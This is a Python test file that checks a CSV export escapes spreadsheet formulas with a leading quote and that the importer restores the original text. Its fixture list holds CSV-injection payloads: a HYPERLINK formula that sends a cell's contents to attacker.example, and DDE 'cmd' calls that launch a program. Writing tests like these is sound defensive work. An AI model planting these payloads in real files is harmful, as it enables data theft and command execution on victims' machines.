"""Formula-safe CSV: a cell a spreadsheet would run is written with a leading quote, and the
importer reads it back to the original text, so export -> import loses nothing."""

from __future__ import annotations

import csv
import io

from hypothesis import given
from hypothesis import strategies as st
from litestar import Litestar
from litestar.testing import TestClient
from sqlalchemy import Engine
from sqlmodel import Session, select

from api.db.models import Organization, Resource
from api.formats.csv import COLUMNS, csv_chunks, escape_cell, unescape_cell
from api.settings import Settings
from seed.importer import import_sources
from seed.readers import Source, read_table
from tests.api.staff_keys import bearer, issue_key

FORMULAS = [
    '=HYPERLINK("https://attacker.example/?d="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''+two quotes",
]
"""Cells that must not reach a spreadsheet as formulas (the last two start with quotes)."""

SAFE = ["-96.79", "32.7767", "+5", "-1e-05", "Free", "Mo-Fr 09:00-17:00", "it's fine", "'"]
"""Cells left exactly as they are: numbers and text that starts no formula."""


def written(value: str) -> str:
    """The one cell of a one-column CSV, as a spreadsheet reads the file."""
    text = "".join(csv_chunks([{"name": value}], columns=("name",)))
    return next(iter(csv.DictReader(io.StringIO(text, newline=""))))["name"]


def test_formula_cells_get_a_leading_quote_and_read_back_to_the_original() -> None:
    for value in FORMULAS:
        cell = written(value)
        assert cell == "'" + value, value
        assert unescape_cell(cell) == value


def test_numbers_and_plain_text_are_written_as_they_are() -> None:
    for value in SAFE:
        assert written(value) == value, value
        assert unescape_cell(value) == value


@given(st.text(alphabet=st.sampled_from("'=+-@\t\r0.1eE aZ|!("), max_size=8))
def test_unescape_undoes_escape_for_any_text(value: str) -> None:
    cell = escape_cell(value)
    assert unescape_cell(cell) == value
    if cell and cell[0] in "=+-@\t\r":
        float(cell)  # only a plain number may start like a formula


def test_the_reader_removes_the_quote_the_export_added() -> None:
    data = "".join(csv_chunks([{"name": v, "phone": "+1 214 555 0100"} for v in FORMULAS]))
    table = read_table(Source(name="r.csv", data=data.encode()))
    assert [row.cells["name"] for row in table.rows] == FORMULAS
    assert {row.cells["phone"] for row in table.rows} == {"+1 214 555 0100"}
    assert list(table.columns) == list(COLUMNS)


def json_source(rows: list[dict[str, object]]) -> Source:
    import json

    return Source(name="resources.json", data=json.dumps(rows).encode())


def test_formula_values_from_the_import_and_the_api_stay_inert_in_the_feed_and_round_trip(
    client: TestClient[Litestar], engine: Engine, settings: Settings
) -> None:
    imported = import_sources(
        engine,
        settings,
        [
            json_source(
                [
                    {
                        "external_id": "f-1",
                        "category": "legal_aid",
                        "name": FORMULAS[0],
                        "organization": "@SUM(1+1) Org",
                        "description": FORMULAS[1],
                        "address": "-1 Minus St",
                        "city": "Dallas",
                        "state": "TX",
                        "postal_code": "75201",
                        "latitude": 32.7876,
                        "longitude": -96.7994,
                        "phone": "+1 214 555 0100",
                        "fees": "=1+1",
                        "confidential": False,
                    }
                ]
            )
        ],
    )
    assert imported.ok, [str(p) for p in imported.problems]
    headers = bearer(issue_key(engine, "resources:write"))
    location = client.post(
        "/api/v1/locations",
        json={
            "address": "2 Elm St",
            "city": "Dallas",
            "state": "TX",
            "postal_code": "75201",
            "latitude": 32.79,
            "longitude": -96.80,
        },
        headers=headers,
    )
    assert location.status_code == 201, location.text
    created = client.post(
        "/api/v1/resources",
        json={
            "external_id": "api-1",
            "name": "@SUM(1+1)",
            "category": "community_partner",
            "location_id": location.json()["id"],
            "phone": "+1 214 555 0101",
            "hours": "Mo-Fr 09:00-17:00",
            "description": "-2+3+cmd|' /C calc'!A0",
        },
        headers=headers,
    )
    assert created.status_code == 201, created.text

    feed = client.get("/api/v1/resources.csv")
    assert feed.status_code == 200
    rows = {row["external_id"]: row for row in csv.DictReader(io.StringIO(feed.text, newline=""))}
    cells = [cell for row in rows.values() for cell in row.values()]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")]
    assert rows["f-1"]["name"] == "'" + FORMULAS[0]
    assert rows["f-1"]["longitude"] == "-96.7994"
    assert rows["api-1"]["phone"] == "'+1 214 555 0101"

    def stored() -> list[tuple[object, ...]]:
        with Session(engine) as session:
            found = session.exec(select(Resource).order_by(Resource.external_id))  # type: ignore[arg-type]
            org = session.exec(select(Organization.name)).all()
            return [
                (r.external_id, r.name, r.description, r.phone, r.fees, r.hours) for r in found
            ] + [tuple(org)]

    before = stored()
    again = import_sources(engine, settings, [Source(name="feed.csv", data=feed.content)])
    assert again.ok, [str(p) for p in again.problems]
    counts = again.counts["resources"]
    assert stored() == before, (before, stored())
    assert (counts.created, counts.updated, counts.unchanged) == (0, 0, 2)
    assert before[0][1] == "@SUM(1+1)" and before[1][1] == FORMULAS[0]
